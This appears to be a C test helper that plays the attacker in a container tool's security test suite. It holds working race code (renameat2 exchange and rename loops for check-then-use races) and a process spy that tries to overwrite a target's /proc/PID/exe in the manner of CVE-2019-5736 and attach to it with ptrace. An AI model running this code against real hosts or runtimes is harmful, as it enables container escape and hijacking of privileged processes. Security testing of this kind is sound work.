/*
 * The attacker's side of tests/e2e/security.bats: what a neighbour on a shared
 * volume, or a process of the container itself, can do while tare works.
 *
 *   racer exchange A B        swaps two names without a pause (renameat2(2), RENAME_EXCHANGE)
 *   racer cycle DIR A B       as DIR/A, in turn: nothing, DIR/B (a link or what else is there)
 *   racer spy NAME            looks into every process called NAME that appears: prints what its
 *                             descriptors lead to, once each, and what it may do to it
 *   racer cwd                 prints the working directory as the kernel names it
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static int exchange(const char *a, const char *b)
{
	puts("ready");
	fflush(stdout);
	for (;;) {
		if (renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) < 0 && errno != ENOENT &&
		    errno != EBUSY) {
			perror("renameat2");
			return 1;
		}
	}
}

/* The name is there as B is, then not at all: a check and a use that look twice see different things. */
static int cycle(const char *dir, const char *a, const char *b)
{
	int fd = open(dir, O_PATH | O_DIRECTORY);

	if (fd < 0)
		return 1;
	puts("ready");
	fflush(stdout);
	for (;;) {
		(void)renameat(fd, b, fd, a);
		if (renameat(fd, a, fd, b) < 0 && errno == EEXIST)
			(void)unlinkat(fd, a, 0);
		/* What tare made in the gap must not end the race. */
		(void)unlinkat(fd, a, AT_REMOVEDIR);
	}
}

static char seen[256][300];
static int count;

/* Prints each line once. */
static void say(const char *line)
{
	for (int n = 0; n < count; n++)
		if (!strcmp(seen[n], line))
			return;
	if (count < 256)
		snprintf(seen[count++], sizeof(seen[0]), "%s", line);
	puts(line);
	fflush(stdout);
}

/* socket:[123] and the like are the same to us whatever their number. */
static void without_numbers(char *text)
{
	char *to = text;

	for (char *c = text; *c; c++)
		if (*c < '0' || *c > '9')
			*to++ = *c;
	*to = '\0';
}

static void look(const char *pid)
{
	char path[300], link[256], line[300];

	snprintf(path, sizeof(path), "/proc/%s/fd", pid);
	DIR *d = opendir(path);
	if (!d) {
		snprintf(line, sizeof(line), "fd %s", strerrorname_np(errno));
		say(line);
		return;
	}
	for (struct dirent *e; (e = readdir(d));) {
		ssize_t n = readlinkat(dirfd(d), e->d_name, link, sizeof(link) - 1);
		if (n < 0)
			continue;
		link[n] = '\0';
		without_numbers(link);
		snprintf(line, sizeof(line), "fd %s", link);
		say(line);
	}
	closedir(d);
	for (const char **name = (const char *[]){"cwd", "root", "exe", NULL}; *name; name++) {
		snprintf(path, sizeof(path), "/proc/%s/%s", pid, *name);
		ssize_t n = readlink(path, link, sizeof(link) - 1);
		if (n < 0)
			continue;
		link[n] = '\0';
		snprintf(line, sizeof(line), "%s %s", *name, link);
		say(line);
	}
}

/*
 * Opens the program for writing, as CVE-2019-5736 does: unless it is the container's
 * by now, which anyone in there may write to, and of which later execs would fail.
 */
static void overwrite(const char *pid)
{
	char path[300], line[300];
	struct stat s, own;

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	int fd = open(path, O_PATH);
	if (fd < 0)
		return;
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	ssize_t n = readlink(path, line, sizeof(line) - 1);
	if (n >= 0) {
		line[n] = '\0';
		if (fstat(fd, &s) == 0 && stat(line, &own) == 0 && s.st_dev == own.st_dev &&
		    s.st_ino == own.st_ino) {
			close(fd);
			return;
		}
	}
	int w = open(path, O_WRONLY);
	if (w >= 0 && fstat(w, &s) == 0 && write(w, "#", 1) == 1)
		say("overwritten");
	else {
		snprintf(line, sizeof(line), "overwrite %s", strerrorname_np(errno));
		say(line);
	}
	if (w >= 0)
		close(w);
	close(fd);
}

/* What may be traced can be made to do anything with the capabilities that it has by then. */
static void trace(pid_t pid)
{
	char path[64], line[300], text[300];

	if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0) {
		snprintf(text, sizeof(text), "trace %s", strerrorname_np(errno));
		say(text);
		return;
	}
	snprintf(path, sizeof(path), "/proc/%d/status", pid);
	FILE *f = fopen(path, "r");
	while (f && fgets(line, sizeof(line), f)) {
		if (strncmp(line, "CapPrm:\t", 8))
			continue;
		line[strcspn(line, "\n")] = '\0';
		snprintf(text, sizeof(text), "trace %s", line + 8);
		say(text);
	}
	if (f)
		fclose(f);
	if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0 && waitpid(pid, NULL, __WALL) == pid)
		(void)ptrace(PTRACE_DETACH, pid, 0, 0);
}

static _Noreturn void spy(const char *name)
{
	char path[300], comm[32];

	puts("ready");
	fflush(stdout);
	for (;;) {
		DIR *d = opendir("/proc");
		for (struct dirent *e; d && (e = readdir(d));) {
			if (e->d_name[0] < '1' || e->d_name[0] > '9')
				continue;
			snprintf(path, sizeof(path), "/proc/%s/comm", e->d_name);
			int fd = open(path, O_RDONLY);
			ssize_t n = fd < 0 ? -1 : read(fd, comm, sizeof(comm) - 1);
			if (fd >= 0)
				close(fd);
			if (n <= 0)
				continue;
			comm[n - 1] = '\0';
			if (strcmp(comm, name))
				continue;
			look(e->d_name);
			overwrite(e->d_name);
			trace(atoi(e->d_name));
		}
		if (d)
			closedir(d);
	}
}

int main(int argc, char **argv)
{
	if (argc == 4 && !strcmp(argv[1], "exchange"))
		return exchange(argv[2], argv[3]);
	if (argc == 5 && !strcmp(argv[1], "cycle"))
		return cycle(argv[2], argv[3], argv[4]);
	if (argc == 3 && !strcmp(argv[1], "spy"))
		spy(argv[2]);
	if (argc == 2 && !strcmp(argv[1], "cwd")) {
		char path[4096];
		return syscall(SYS_getcwd, path, sizeof(path)) < 0 ? 1 : puts(path) < 0;
	}
	fputs("racer exchange A B | cycle DIR A B | spy NAME | cwd\n", stderr);
	return 2;
}
